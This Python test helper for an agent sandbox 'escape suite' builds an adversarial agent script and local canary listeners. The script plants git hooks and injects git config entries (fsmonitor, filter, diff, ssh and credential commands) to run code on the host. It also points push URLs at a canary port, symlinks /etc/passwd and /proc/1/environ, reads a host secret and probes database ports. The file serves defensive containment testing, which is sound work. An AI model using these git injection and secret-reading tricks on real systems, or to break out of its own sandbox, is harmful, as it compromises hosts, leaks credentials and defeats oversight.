"""The adversarial agent of the escape suite (`test_trust_boundary.py`), and the canary listeners it
must never reach."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from .conftest import FIXED_CALC

PLANTED_HOOKS = (
    "post-commit",
    "pre-commit",
    "reference-transaction",
    "pre-push",
    "post-checkout",
    "fsmonitor",
)
REPORT = "escape-report.json"
CREDENTIAL_SCAN = "credential-scan.json"  # one list of findings per iteration

Canary = tuple[int, list[str]]  # a listener's port, and the peers that connected to it


@contextmanager
def listening() -> Iterator[Canary]:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    seen: list[str] = []

    def accept() -> None:
        while True:
            try:
                connection, peer = listener.accept()
            except OSError:
                return
            seen.append(str(peer))
            connection.close()

    threading.Thread(target=accept, daemon=True).start()
    try:
        yield listener.getsockname()[1], seen
    finally:
        listener.close()


def adversary(
    markers: Path,
    emulator_url: str,
    canary_port: int,
    secret_file: Path,
    credentials: tuple[str, ...],
    *,
    confined: bool,
    ports: dict[str, int],
) -> str:
    """The agent: plants on the first iteration (the insteadOf and pushurl pointing at `canary_port`);
    removes only the nested repository when told. Confined, it tries every port in `ports` (the
    canaries, and the real NATS and PostgreSQL servers) and reads `secret_file`, a host file;
    unconfined (`none`) it tries neither, since an agent with the worker's access reaches them by
    design. On every iteration it looks for `credentials` in every file of its worktree, `.git`
    included (loose objects inflated), and records where it found any."""
    command = f"touch {markers}/ran-on-host"
    hooks = "".join(
        f"    w('.git/hooks/{name}', '#!/bin/sh\\n{command}-{name}\\n', 0o755)\n" for name in PLANTED_HOOKS
    )
    canary = f"http://127.0.0.1:{canary_port}/"
    tried = ports if confined else {}
    return f"""
import shutil, socket, zlib
def w(path, text, mode=0o644):
    p = pathlib.Path(path)
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(text)
    p.chmod(mode)
def scan():
    found = []
    for top, dirs, names in os.walk('.'):
        for name in names:
            path = os.path.join(top, name)
            if name in ({REPORT!r}, {CREDENTIAL_SCAN!r}) or os.path.islink(path):
                continue
            try:
                data = pathlib.Path(path).read_bytes()
            except OSError:
                continue
            if '/objects/' in path:
                try:
                    data = zlib.decompress(data)
                except zlib.error:
                    pass
            found += [path for needle in {credentials!r} if needle.lower().encode() in data.lower()]
    return found
scan_file = pathlib.Path({CREDENTIAL_SCAN!r})
scans = json.loads(scan_file.read_text()) if scan_file.exists() else []
w({CREDENTIAL_SCAN!r}, json.dumps(scans + [scan()]))
if '<failures>' in prompt:
    assert 'nested git repository' in prompt, prompt
    shutil.rmtree('sub')
else:
    pathlib.Path('calc.py').write_text({FIXED_CALC!r})
{hooks}
    canary = {canary!r}
    with open('.git/config', 'a') as config:
        config.write('''
[core]
\\tfsmonitor = {command}-fsmonitor-config
\\thooksPath = .git/hooks
\\tsshCommand = {command}-ssh
[filter "evil"]
\\tclean = {command}-clean
\\tsmudge = {command}-smudge
\\tprocess = {command}-process
\\trequired = true
[diff]
\\texternal = {command}-diff
[url "''' + canary + '''"]
\\tinsteadOf = {emulator_url}
\\tpushInsteadOf = {emulator_url}
[remote "origin"]
\\tpushurl = ''' + canary + '''
[credential]
\\thelper = !{command}-credential
[include]
\\tpath = evil.cfg
''')
    w('.git/evil.cfg', '[core]\\n\\tfsmonitor = {command}-included\\n')
    w('.gitattributes', '* filter=evil diff=evil\\n')
    w('.git/info/attributes', '* filter=evil diff=evil\\n')
    w('sub/.git/HEAD', 'ref: refs/heads/main\\n')
    w('sub/.git/config', '[core]\\n\\tfsmonitor = {command}-nested\\n')
    w('sub/file.txt', 'inside a nested repository\\n')
    pathlib.Path('.paid.yml').unlink()
    pathlib.Path('.paid.yml').symlink_to('/etc/passwd')
    pathlib.Path('environ-link').symlink_to('/proc/1/environ')
    pathlib.Path('secret-link').symlink_to({str(secret_file)!r})
    def read(path):
        try:
            return pathlib.Path(path).read_bytes().decode(errors='replace')
        except OSError as error:
            return type(error).__name__
    def reach(port):
        try:
            socket.create_connection(('127.0.0.1', port), timeout=2).close()
            return True
        except OSError:
            return False
    proc1 = read('/proc/1/environ')
    report = {{'env': dict(os.environ), 'self': read('/proc/self/environ'),
              # Unconfined, pid 1 is the host's: only whether it could be read goes into the branch.
              'proc1': proc1 if {confined!r} else str(len(proc1)) + ' characters',
              'secret': read({str(secret_file)!r}) if {confined!r} else 'not tried',
              'reached': {{name: reach(port) for name, port in {tried!r}.items()}}}}
    w({REPORT!r}, json.dumps(report))
"""
